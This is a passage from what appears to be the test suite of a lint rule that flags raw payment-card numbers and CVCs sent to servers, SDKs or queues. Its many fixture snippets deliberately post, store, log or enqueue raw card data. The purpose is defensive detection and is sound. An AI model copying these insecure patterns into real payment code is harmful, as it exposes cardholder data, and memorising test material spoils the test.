        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/payments', field: 'cardNumber, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 7, column: 141, endLine: 7, endColumn: 145, suggestions: [] },
      ],
    },
    {
      // Braintree's transaction.sale promisified with util.promisify (real-world batch GD): the card handed to it; a
      // promisified lookup sends none
      code: `const express = require('express');
const braintree = require('braintree');
const { promisify } = require('util');

const gateway = new braintree.BraintreeGateway({
  environment: braintree.Environment.Sandbox,
  merchantId: process.env.BT_MERCHANT_ID,
  publicKey: process.env.BT_PUBLIC_KEY,
  privateKey: process.env.BT_PRIVATE_KEY,
});
const sale = promisify(gateway.transaction.sale.bind(gateway.transaction));
const findTransaction = promisify(gateway.transaction.find.bind(gateway.transaction));

const router = express.Router();

router.post('/checkout', async (req, res) => {
  const result = await sale({
    amount: req.body.amount,
    creditCard: { number: req.body.cardNumber, cvv: req.body.cvv, expirationDate: req.body.expiry },
    options: { submitForSettlement: true },
  });
  res.json({ id: result.transaction.id });
});

router.get('/transactions/:id', async (req, res) => {
  res.json(await findTransaction(req.params.id));
});

module.exports = router;
`,
      filename: 'routes/checkout.js',
      languageOptions: { parser: espree, parserOptions: { sourceType: 'commonjs', ecmaVersion: 'latest' } } as const,
      output: null,
      errors: [
        { messageId: 'rawCardToGateway', data: { sdk: 'Braintree (braintree)', method: 'transaction.sale', field: 'creditCard.number', what: 'card number (PAN)' }, line: 19, column: 19, endLine: 19, endColumn: 25, suggestions: [] },
        { messageId: 'rawCardToGateway', data: { sdk: 'Braintree (braintree)', method: 'transaction.sale', field: 'creditCard.cvv', what: 'card security code (CVC)' }, line: 19, column: 48, endLine: 19, endColumn: 51, suggestions: [] },
      ],
    },
    {
      // A card whose fields the body's declared type has, sent by a service whose helper spreads the request into an
      // enriched body (real-world batch GF: FluidPay): shown at the body the request sends, not at the helper's spread.
      code: `import { HttpService } from '@nestjs/axios';
import { Injectable } from '@nestjs/common';
import { firstValueFrom } from 'rxjs';

interface FluidpayPaymentRequest {
  amount: number;
  currency?: string;
  payment_method: { type: 'card'; card: { number: string; cvc: string; exp_month: number; exp_year: number } };
  metadata?: Record<string, string>;
}

@Injectable()
export class FluidpayService {
  private readonly baseUrl = 'https://api.fluidpay.com/v1';
  constructor(private readonly httpService: HttpService) {}

  async createPayment(request: FluidpayPaymentRequest) {
    const enrichedRequest = this.enrichWithTenantMetadata(request);
    const response = await firstValueFrom(this.httpService.post(\`\${this.baseUrl}/payments\`, enrichedRequest));
    return response.data;
  }

  private enrichWithTenantMetadata(request: FluidpayPaymentRequest): FluidpayPaymentRequest {
    return { ...request, metadata: { ...request.metadata, platform: 'dispatch' } };
  }

  async refund(request: FluidpayPaymentRequest) {
    return firstValueFrom(this.httpService.post(\`\${this.baseUrl}/refunds\`, { ...request, reason: 'requested' }));
  }
}
`,
      filename: 'services/gateway/src/app/services/fluidpay.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpService', endpoint: 'POST …/payments', field: 'payment_method.card.number, payment_method.card.cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 19, column: 93, endLine: 19, endColumn: 108, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpService', endpoint: 'POST …/refunds', field: 'payment_method.card.number, payment_method.card.cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 28, column: 81, endLine: 28, endColumn: 88, suggestions: [] },
      ],
    },
    {
      // A taxi app's Edge Function that checks a driver's chauffeurspas (the Dutch taxi driver's pass) with the register,
      // whose URL is a setting with the register's address as its default (real-world batch GF): that card's number; the
      // driver's payout card posted with its CVC is a payment card's.
      code: `import { createClient } from 'https://esm.sh/@supabase/supabase-js@2';

const ILT_API_URL = (Deno.env.get('ILT_API_URL') ?? 'https://api.ilent.nl/v1/chauffeurspas').replace(/\\/$/, '');

Deno.serve(async (req) => {
  const { driverId, cardNumber } = await req.json();
  if (!/^\\d{6,32}$/.test(cardNumber)) return new Response('invalid', { status: 400 });
  const response = await fetch(\`\${ILT_API_URL}/verify\`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: \`Bearer \${Deno.env.get('ILT_API_KEY')}\` },
    body: JSON.stringify({ card_number: cardNumber }),
  });
  const supabase = createClient(Deno.env.get('SUPABASE_URL')!, Deno.env.get('SUPABASE_SERVICE_ROLE_KEY')!);
  await supabase.from('drivers').update({ pass_verified: response.ok }).eq('id', driverId);
  return new Response(JSON.stringify({ verified: response.ok }));
});

export async function addPayoutCard(driverId: string, card: { number: string; cvc: string; expMonth: number; expYear: number }) {
  return fetch(\`\${Deno.env.get('API_URL') ?? 'https://api.example.com'}/drivers/\${driverId}/cards\`, {
    method: 'POST',
    body: JSON.stringify({ card_number: card.number, cvc: card.cvc, exp_month: card.expMonth, exp_year: card.expYear }),
  });
}
`,
      filename: 'supabase/functions/verify-chauffeurspas/index.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/drivers/…/cards', field: 'card_number', what: 'card number (PAN)' }, line: 21, column: 28, endLine: 21, endColumn: 39, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/drivers/…/cards', field: 'cvc', what: 'card security code (CVC)' }, line: 21, column: 54, endLine: 21, endColumn: 57, suggestions: [] },
      ],
    },
    {
      // The Capacitor Stripe plugin of Capacitor 2 (\`const { Stripe } = Plugins\`, real-world batch FY: a ticket checkout)
      // takes the raw card in \`confirmPaymentIntent({ card })\` and \`createCardToken(card)\`; a saved payment method is none.
      code: `import { Plugins } from '@capacitor/core';

const { Stripe } = Plugins;

export async function pay(clientSecret: string, cardNumber: string, cvc: string, month: number, year: number) {
  await Stripe.confirmPaymentIntent({ clientSecret, card: { number: cardNumber, exp_month: month, exp_year: year, cvc } });
}

export async function tokenize(card: { number: string; cvc: string; expMonth: number; expYear: number }) {
  return Plugins.Stripe.createCardToken({ number: card.number, exp_month: card.expMonth, exp_year: card.expYear, cvc: card.cvc });
}

export async function saved(clientSecret: string, paymentMethodId: string) {
  await Stripe.confirmPaymentIntent({ clientSecret, paymentMethodId });
}
`,
      filename: 'src/checkout/native-pay.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'Stripe.confirmPaymentIntent', sdk: 'the Capacitor Stripe plugin', field: 'card.number', what: 'card number (PAN)' }, line: 6, column: 61, endLine: 6, endColumn: 67 },
        { messageId: 'rawCardToSdk', data: { call: 'Stripe.confirmPaymentIntent', sdk: 'the Capacitor Stripe plugin', field: 'card.cvc', what: 'card security code (CVC)' }, line: 6, column: 115, endLine: 6, endColumn: 118 },
        { messageId: 'rawCardToSdk', data: { call: 'Plugins.Stripe.createCardToken', sdk: 'the Capacitor Stripe plugin', field: 'number', what: 'card number (PAN)' }, line: 10, column: 43, endLine: 10, endColumn: 49 },
        { messageId: 'rawCardToSdk', data: { call: 'Plugins.Stripe.createCardToken', sdk: 'the Capacitor Stripe plugin', field: 'cvc', what: 'card security code (CVC)' }, line: 10, column: 114, endLine: 10, endColumn: 117 },
      ],
    },
    {
      // A Vue component's \`methods\` called on \`this\` from its lifecycle hooks (\`mounted()\`) and watch handlers: the
      // card a hook hands \`charge\` is what \`charge\` posts.
      code: `import axios from 'axios';

export default {
  name: 'QuickPay',
  data() {
    return { card: { number: '', cvc: '', exp: '' }, saved: null };
  },
  mounted() {
    const saved = JSON.parse(localStorage.getItem('quickpay') || 'null');
    if (saved) this.charge({ number: saved.cardNumber, cvc: saved.cvc });
  },
  watch: {
    saved(value) {
      if (value) this.remember(value.cardNumber);
    },
  },
  methods: {
    charge(card) {
      return axios.post('/api/charge', card);
    },
    remember(cardNumber) {
      console.log('remembering', cardNumber);
    },
  },
};
`,
      filename: 'src/components/QuickPay.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/charge', field: 'number', what: 'card number (PAN)' }, line: 10, column: 30, endLine: 10, endColumn: 36, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/charge', field: 'cvc', what: 'card security code (CVC)' }, line: 10, column: 56, endLine: 10, endColumn: 59, suggestions: [] },
      ],
    },
    {
      // react-hook-form's \`defaultValues\` with a fallback (\`loadDraft() ?? EMPTY_CARD\`): the fallback's keys are the form's.
      code: `import { useForm } from 'react-hook-form';

const EMPTY_CARD = { holder: '', cardNumber: '', expiry: '', cvc: '' };
const loadDraft = () => JSON.parse(sessionStorage.getItem('card-draft') ?? 'null');

export function CardForm() {
  const { handleSubmit, register } = useForm({ defaultValues: loadDraft() ?? EMPTY_CARD });
  const onSubmit = (card) => fetch('/api/cards', { method: 'POST', body: JSON.stringify(card) });
  return <form onSubmit={handleSubmit(onSubmit)}><input {...register('holder')} /></form>;
}
`,
      filename: 'src/CardForm.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/cards', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 8, column: 89, endLine: 8, endColumn: 93 },
      ],
    },
    {
      // react-hook-form's \`handleSubmit\` destructured from a const holding \`useForm({ defaultValues })\` hands its
      // submit handler the form's values.
      code: `import { useForm } from 'react-hook-form';

export function PayForm() {
  const form = useForm({ defaultValues: { cardNumber: '', cvc: '', name: '' } });
  const { handleSubmit, register } = form;
  const onSubmit = (values) => fetch('/api/pay', { method: 'POST', body: JSON.stringify(values) });
  return (
    <form onSubmit={handleSubmit(onSubmit)}>
      <input {...register('name')} />
    </form>
  );
}
`,
      filename: 'src/PayForm.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 6, column: 89, endLine: 6, endColumn: 95 },
      ],
    },
    {
      // A Stripe client from the app's own factory held under a neutral name, and one read from Hono's context by its
      // Stripe name (real-world batch EV: a Bun + Hono service that makes PaymentMethods from a card in the query)
      code: `import { Hono } from 'hono';
import { getStripeClient } from '../lib/client';

const app = new Hono<{ Bindings: { STRIPE_SECRET_KEY: string } }>();

app.get('/payment-method', async (c) => {
  const client = getStripeClient(c.env.STRIPE_SECRET_KEY);
  const paymentMethod = await client.paymentMethods.create({
    type: 'card',
    card: { number: c.req.query('number')!, exp_month: 12, exp_year: 2030, cvc: c.req.query('cvc')! },
  });
  return c.json(paymentMethod);
});

app.post('/cards', async (c) => {
  const { number, cvc, exp_month, exp_year } = await c.req.json();
  const pm = await c.get('stripe').paymentMethods.create({ type: 'card', card: { number, exp_month, exp_year, cvc } });
  return c.json(pm);
});

export default app;
`,
      filename: 'src/routes/payment-methods.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 10, column: 13, endLine: 10, endColumn: 19 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 10, column: 76, endLine: 10, endColumn: 79 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 17, column: 82, endLine: 17, endColumn: 88 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 17, column: 111, endLine: 17, endColumn: 114 },
      ],
    },
    {
      // A NestJS service whose client is known only by its injection (real-world batch EU: an untyped
      // \`@InjectStripeClient()\` of @golevelup/nestjs-stripe), sent the validated card DTO
      code: `import { Injectable } from '@nestjs/common';
import { InjectStripeClient } from '@golevelup/nestjs-stripe';
import { IsCreditCard, IsNumberString, Length } from 'class-validator';

export class CardDto {
  @IsCreditCard()
  number: string;

  @IsNumberString()
  @Length(3, 4)
  cvc: string;

  exp_month: number;
  exp_year: number;
}

@Injectable()
export class CardsService {
  constructor(@InjectStripeClient() private readonly gateway) {}

  async add(customer: string, card: CardDto) {
    const method = await this.gateway.paymentMethods.create({ type: 'card', card });
    return this.gateway.paymentMethods.attach(method.id, { customer });
  }
}
`,
      filename: 'src/cards/cards.service.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', field: 'card.number, card.cvc', what: 'card number (PAN) and card security code (CVC)' },
          line: 22,
          column: 77,
          endLine: 22,
          endColumn: 81,
        },
      ],
    },
    {
      // A card number put on a durable RabbitMQ queue for a payment worker (real-world batch ET); the notification
      // queued beside it carries none
      code: `const express = require('express');
const amqp = require('amqplib');

const app = express();
app.use(express.json());

async function sendToQueue(queueName, payload) {
  const connection = await amqp.connect(process.env.RABBITMQ_URL);
  const channel = await connection.createChannel();
  await channel.assertQueue(queueName, { durable: true });
  channel.sendToQueue(queueName, Buffer.from(JSON.stringify(payload)), { persistent: true });
}

app.post('/payments', async (req, res) => {
  const { user, paymentType, cardNo } = req.body;
  const connection = await amqp.connect(process.env.RABBITMQ_URL);
  const channel = await connection.createChannel();
  channel.sendToQueue('payments', Buffer.from(JSON.stringify({ user, paymentType, cardNo })), { persistent: true });
  await sendToQueue('notifications', { user, paymentType });
  res.status(202).json({ status: 'queued' });
});

app.listen(3000);
`,
      filename: 'app.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardInMessage',
          data: { service: 'amqplib (RabbitMQ)', method: 'sendToQueue', field: 'cardNo', what: 'card number (PAN)' },
          line: 18,
          column: 83,
          endLine: 18,
          endColumn: 89,
        },
      ],
    },
    {
      // A NestJS service hands the card of a validated DTO to the payments microservice (real-world batch EU: the
      // "sleepr" course's reservations service)
      code: `import { Inject, Injectable } from '@nestjs/common';
import { ClientProxy } from '@nestjs/microservices';
import { IsCreditCard, IsNumberString, ValidateNested } from 'class-validator';
import { map } from 'rxjs';

export class CardDto {
  @IsNumberString()
  cvc: string;

  exp_month: number;
  exp_year: number;

  @IsCreditCard()
  number: string;
}

export class CreateChargeDto {
  @ValidateNested()
  card: CardDto;

  amount: number;
}

export class CreateReservationDto {
  startDate: Date;
  endDate: Date;

  @ValidateNested()
  charge: CreateChargeDto;
}

@Injectable()
export class ReservationsService {
  constructor(@Inject('payments') private readonly paymentsService: ClientProxy) {}

  create(createReservationDto: CreateReservationDto, email: string) {
    return this.paymentsService
      .send('create_charge', { ...createReservationDto.charge, email })
      .pipe(map((charge) => ({ ...createReservationDto, invoiceId: charge.id })));
  }
}
`,
      filename: 'apps/reservations/src/reservations.service.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardInMessage',
          data: { service: 'NestJS microservices (ClientProxy)', method: 'send', field: 'card.cvc, card.number', what: 'card security code (CVC) and card number (PAN)' },
          line: 38,
          column: 35,
          endLine: 38,
          endColumn: 62,
        },
      ],
    },
    {
      // A web component keeps the form it read in a field, then posts the field (real-world batch EG)
      code: `class CheckoutForm extends HTMLElement {
  connectedCallback() {
    this.querySelector('form').addEventListener('submit', (event) => this.submit(event));
  }

  submit(event) {
    event.preventDefault();
    this.submitted = {
      name: this.querySelector('#name').value,
      cardNumber: this.querySelector('#card-number').value,
      cvv: this.querySelector('#cvv').value,
    };
    return fetch('/api/orders', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(this.submitted) });
  }
}
customElements.define('checkout-form', CheckoutForm);
`,
      filename: 'src/components/checkout-form.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/orders', field: 'cardNumber', what: 'card number (PAN)' }, line: 10, column: 7, endLine: 10, endColumn: 17, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/orders', field: 'cvv', what: 'card security code (CVC)' }, line: 11, column: 7, endLine: 11, endColumn: 10, suggestions: [] },
      ],
    },
    {
      // a Vue store's card number named in one lower-case word, the number word first (real-world batch EZ: a car
      // rental's `numbercreditcard`), posted under the app's own short key
      code: `import axios from 'axios';
import { ref } from 'vue';

export function usePayment() {
  const numbercreditcard = ref('');
  const cvc = ref('');
  async function submit() {
    if (numbercreditcard.value.length !== 16) return;
    await axios.post('/userpayment', { pay_cr_num: numbercreditcard.value, pay_cr_cvc: cvc.value });
  }
  return { numbercreditcard, cvc, submit };
}
`,
      filename: 'src/stores/payment.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /userpayment', field: 'pay_cr_num', what: 'card number (PAN)' }, line: 9, column: 52, endLine: 9, endColumn: 74, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /userpayment', field: 'pay_cr_cvc', what: 'card security code (CVC)' }, line: 9, column: 76, endLine: 9, endColumn: 86, suggestions: [] },
      ],
    },
    {
      // A card object held in a const that is a choice (the card or a saved card's id), spread into the payload
      // (real-world batch EQ): either object's fields
      code: RENEWAL_SCRIPT,
      filename: 'scripts/renew-subscriptions.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.pagar.me/core/v5/orders', field: 'payments', what: 'card number (PAN)' }, line: 7, column: 17, endLine: 7, endColumn: 23, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.pagar.me/core/v5/orders', field: 'payments', what: 'card security code (CVC)' }, line: 7, column: 102, endLine: 7, endColumn: 105, suggestions: [] },
      ],
    },
    {
      // An Angular reactive form's value, made with a form builder in ngOnInit, posted whole (real-world batch EP: a
      // shop's checkout): the keys of its controls
      code: `import { HttpClient } from '@angular/common/http';
import { Component, OnInit } from '@angular/core';
import { FormBuilder, FormGroup, Validators } from '@angular/forms';

@Component({ selector: 'app-checkout', templateUrl: './checkout.component.html' })
export class CheckoutComponent implements OnInit {
  checkoutForm!: FormGroup;
  constructor(private formBuilder: FormBuilder, private http: HttpClient) {}

  ngOnInit(): void {
    this.checkoutForm = this.formBuilder.group({
      cardnumber: ['', [Validators.required]],
      cvv: ['', [Validators.required]],
    });
  }

  checkOut() {
    this.http.post('http://localhost:3000/checkout', this.checkoutForm.value).subscribe();
  }
}
`,
      filename: 'src/app/checkout/checkout.component.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'HttpClient', endpoint: 'POST localhost/checkout', field: 'cardnumber, cvv', what: 'card number (PAN) and card security code (CVC)' },
          line: 18,
          column: 54,
          endLine: 18,
          endColumn: 77,
          suggestions: [],
        },
      ],
    },
    {
      // A booking stepper's form made by a method, with nested groups, its raw value held in a const and posted
      // (precision probe ER): the nested group's controls under its key
      code: `import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';
import { FormBuilder, FormGroup, Validators } from '@angular/forms';

@Component({ selector: 'app-booking', templateUrl: './booking.component.html' })
export class BookingComponent {
  bookingForm: FormGroup;
  constructor(private fb: FormBuilder, private http: HttpClient) {
    this.bookingForm = this.createBookingForm();
  }
  private createBookingForm(): FormGroup {
    return this.fb.group({
      guest: this.fb.group({ name: ['', Validators.required], email: ['', Validators.email] }),
      payment: this.fb.group({ cardNumber: ['', Validators.required], cvv: ['', Validators.required], expiry: [''] }),
    });
  }
  book() {
    const booking = this.bookingForm.getRawValue();
    this.http.post('/api/bookings', booking).subscribe();
  }
}
`,
      filename: 'src/app/booking/booking.component.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'HttpClient', endpoint: 'POST /api/bookings', field: 'payment.cardNumber, payment.cvv', what: 'card number (PAN) and card security code (CVC)' },
          line: 19,
          column: 37,
          endLine: 19,
          endColumn: 44,
          suggestions: [],
        },
      ],
    },
    ...[
      // The workspace's own package, as the app's package.json declares it (`"@shop/api-client": "workspace:*"`), or
      // by a workspace template's scope (Turborepo's `@repo/`): read as the app's own client, by its name
      { code: WORKSPACE_CLIENT_HOOK, filename: inProject('pnpm-monorepo', 'apps/web/src/checkout.tsx') },
      { code: WORKSPACE_CLIENT_HOOK.replace('@shop/api-client', '@repo/api-client'), filename: 'apps/web/src/checkout.tsx' },
    ].map((test) => ({
      ...test,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer' as const, data: { client: '`api`', endpoint: 'POST /payments', field: 'cardNumber', what: 'card number (PAN)' }, line: 7, column: 31, endLine: 7, endColumn: 41, suggestions: [] },
        { messageId: 'rawCardToOwnServer' as const, data: { client: '`api`', endpoint: 'POST /payments', field: 'cvv', what: 'card security code (CVC)' }, line: 7, column: 43, endLine: 7, endColumn: 46, suggestions: [] },
      ],
    })),
    {
      // A T3 app's payment form sending its card state through a tRPC procedure's mutation (real-world batch ES)
      code: `'use client';
import { useState } from 'react';
import { api } from '~/trpc/react';

export function PayForm({ amount }: { amount: number }) {
  const [card, setCard] = useState({ cardNumber: '', cvc: '', expiry: '' });
  const pay = api.billing.pay.useMutation();
  return (
    <form onSubmit={(e) => { e.preventDefault(); pay.mutate({ ...card, amount }); }}>
      <button type="submit">Pay</button>
    </form>
  );
}
`,
      filename: 'src/app/_components/pay-form.tsx',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'tRPC', endpoint: "the procedure 'billing.pay'", field: 'cardNumber, cvc', what: 'card number (PAN) and card security code (CVC)' },
          line: 9,
          column: 66,
          endLine: 9,
          endColumn: 70,
          suggestions: [],
        },
      ],
    },
    {
      // One card object posted by a request and by its retry: each field reported once, where it is written
      // (real-world batch EQ: a relay smoke test retrying with another key)
      code: `export async function pay(url, cardNumber, cvv) {
  const payload = { card: { number: cardNumber, cvv, exp_month: 1, exp_year: 2030 } };
  let res = await fetch(url, { method: 'POST', headers: { Authorization: 'A' }, body: JSON.stringify(payload) });
  if (!res.ok) res = await fetch(url, { method: 'POST', headers: { Authorization: 'B' }, body: JSON.stringify(payload) });
  return res.json();
}
`,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST a URL computed at run time', field: 'card.number', what: 'card number (PAN)' }, line: 2, column: 29, endLine: 2, endColumn: 35, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST a URL computed at run time', field: 'card.cvv', what: 'card security code (CVC)' }, line: 2, column: 49, endLine: 2, endColumn: 52, suggestions: [] },
      ],
    },
    {
      // A template whose written text cannot be a card number still carries the one written into it (unlike a vault
      // proxy's expression around a token id)
      code: `export async function pay(form, amount) {
  const cardNumber = form.querySelector('#card-number').value;
  const expiry = form.querySelector('#expiry').value;
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify({ card_number: \`\${cardNumber}|\${expiry}\`, amount }) });
}
`,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'card_number', what: 'card number (PAN)' }, line: 4, column: 68, endLine: 4, endColumn: 79, suggestions: [] },
      ],
    },
    {
      // A copy of the card object is what is posted (real-world batch EH: an AngularJS shop copying its card with
      // \`angular.copy\`): it has the card's fields
      code: `angular.module('shop').controller('CheckoutCtrl', function ($scope, $http) {
  $scope.pay = function () {
    var card = { number: $scope.form.number, cvc: $scope.form.cvc, exp_month: $scope.form.month, exp_year: $scope.form.year };
    var payment = angular.copy(card);
    return $http.post('/api/payments', payment).then(function () {
      $scope.paid = true;
    });
  };
});
`,
      filename: 'public/js/controllers/checkout-controller.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/payments', field: 'number', what: 'card number (PAN)' }, line: 3, column: 18, endLine: 3, endColumn: 24, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/payments', field: 'cvc', what: 'card security code (CVC)' }, line: 3, column: 46, endLine: 3, endColumn: 49, suggestions: [] },
      ],
    },
    {
      // Each field read in a \`try\` of its own before the card is posted (real-world batch 254: a Next.js checkout for
      // Authorize.net): a \`try\` block runs as the statements around it do
      code: `export async function createOrder(orderDetails) {
  const cardInfo = { cardHolderName: '', cardNumber: '', expiry: '', cvv: '' };
  try {
    cardInfo.cardHolderName = document.getElementById('cardHolderName').value;
  } catch (err) {}
  try {
    cardInfo.cardNumber = document.getElementById('cardNumber').value;
  } catch (err) {}
  try {
    cardInfo.expiry = document.getElementById('expiry').value;
    cardInfo.cvv = document.getElementById('cvv2').value;
  } catch (err) {}
  const response = await fetch('/api/payment/authorize.net/create-order', {
    method: 'POST',
    body: JSON.stringify({ orderDetails, cardInfo }),
  });
  return response.json();
}
`,
      filename: 'src/controllers/authorize.net.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/payment/authorize.net/create-order', field: 'cardInfo.cardNumber', what: 'card number (PAN)' }, line: 7, column: 14, endLine: 7, endColumn: 24, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/payment/authorize.net/create-order', field: 'cardInfo.cvv', what: 'card security code (CVC)' }, line: 11, column: 14, endLine: 11, endColumn: 17, suggestions: [] },
      ],
    },
    {
      // The object \`Object.freeze\` returns is the one it is given: a frozen card posted whole has the card's fields
      code: `export async function pay(card: { number: string; cvc: string; expMonth: number }) {
  const payload = Object.freeze({ number: card.number, cvc: card.cvc, exp_month: card.expMonth });
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify(payload) });
}
`,
      filename: 'src/checkout/pay.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'number', what: 'card number (PAN)' }, line: 2, column: 35, endLine: 2, endColumn: 41, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'cvc', what: 'card security code (CVC)' }, line: 2, column: 56, endLine: 2, endColumn: 59, suggestions: [] },
      ],
    },
    {
      // A body that one path adds the card to (real-world batch EB: an edge function charging Asaas with the card when
      // one was given) may carry it
      code: `Deno.serve(async (req: Request) => {
  const { credit_card_data, customer } = await req.json();
  const paymentPayload: any = { customer, billingType: 'CREDIT_CARD', value: 10 };
  if (credit_card_data) {
    paymentPayload.creditCard = {
      holderName: credit_card_data.holderName,
      number: credit_card_data.number,
      expiryMonth: credit_card_data.expiryMonth,
      expiryYear: credit_card_data.expiryYear,
      ccv: credit_card_data.ccv,
    };
  } else {
    paymentPayload.billingType = 'PIX';
  }
  const r = await fetch('https://sandbox.asaas.com/api/v3/payments', { method: 'POST', body: JSON.stringify(paymentPayload) });
  return new Response(await r.text());
});
`,
      filename: 'supabase/functions/create-payment-transaction/index.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST sandbox.asaas.com/api/v3/payments', field: 'creditCard.number', what: 'card number (PAN)' }, line: 7, column: 7, endLine: 7, endColumn: 13, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST sandbox.asaas.com/api/v3/payments', field: 'creditCard.ccv', what: 'card security code (CVC)' }, line: 10, column: 7, endLine: 10, endColumn: 10, suggestions: [] },
      ],
    },
    {
      // A RequireJS module's constructor whose prototype method builds the card body another one sends (real-world batch
      // ED: a Magento module tokenising with its gateway from the browser); jQuery is the module's \`jquery\` dependency
      code: `define(['jquery'], function ($) {
  var CreditCardToken = function (formObject) {
    this.formObject = formObject;
  };

  CreditCardToken.prototype.getDataToGenerateToken = function () {
    return {
      type: 'card',
      card: {
        holder_name: this.formObject.creditCardHolderName.val(),
        number: this.formObject.creditCardNumber.val().replace(/[^0-9]+/g, ''),
        exp_month: this.formObject.creditCardExpMonth.val(),
        exp_year: this.formObject.creditCardExpYear.val(),
        cvv: this.formObject.creditCardCvv.val()
      }
    };
  };

  CreditCardToken.prototype.getToken = function (pkKey) {
    var data = this.getDataToGenerateToken();
    return $.ajax({ type: 'POST', dataType: 'json', url: 'https://api.mundipagg.com/core/v1/tokens?appId=' + pkKey, data: data });
  };

  return CreditCardToken;
});
`,
      filename: 'view/frontend/web/js/core/checkout/CreditCardToken.js',
      languageOptions: { parser: espree, parserOptions: { sourceType: 'script', ecmaVersion: 'latest' } } as const,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST api.mundipagg.com/core/v1/tokens', field: 'card.number', what: 'card number (PAN)' }, line: 11, column: 9, endLine: 11, endColumn: 15, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST api.mundipagg.com/core/v1/tokens', field: 'card.cvv', what: 'card security code (CVC)' }, line: 14, column: 9, endLine: 14, endColumn: 12, suggestions: [] },
      ],
    },
    {
      // A Supabase edge function tokenising with Iugu from the server (real-world batch EB): its card number, by the
      // request field it comes from. `verification_value`, the CVV's name spelled out, is read as the CVC beside a card
      // number by its own name or in a card (`card_number`, `credit_card[verification_value]`); limitation: beside a
      // bare `number` in a `data` object it is not (a domain's DNS verification value is called so too: precision
      // probe 296; until the sixty-eighth session it was read as the CVC anywhere)
      code: `Deno.serve(async (req: Request) => {
  const body = await req.json();
  const r = await fetch('https://api.iugu.com/v1/payment_token', {
    method: 'POST',
    body: JSON.stringify({ account_id: 'acc', method: 'credit_card',
      data: { number: body.card_number, verification_value: body.verification_value, month: body.month, year: body.year } }),
  });
  const token = await fetch('https://api.iugu.com/v1/payment_token', {
    method: 'POST',
    body: JSON.stringify({ account_id: 'acc', data: { card_number: body.card_number, verification_value: body.cvv } }),
  });
  return new Response(await r.text() + await token.text());
});
`,
      filename: 'supabase/functions/create-iugu-payment-token/index.ts',
      output: null,
      errors: [
